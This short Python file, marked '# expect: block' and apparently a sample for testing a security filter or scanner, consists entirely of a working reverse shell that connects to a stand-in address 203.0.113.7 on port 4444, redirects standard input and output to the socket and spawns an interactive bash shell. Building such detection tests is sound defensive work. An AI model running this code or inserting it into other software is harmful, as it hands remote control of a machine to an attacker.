# expect: block
import os
import pty
import socket

HOST = "203.0.113.7"
PORT = 4444


def connect_back():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((HOST, PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")


if __name__ == "__main__":
    connect_back()
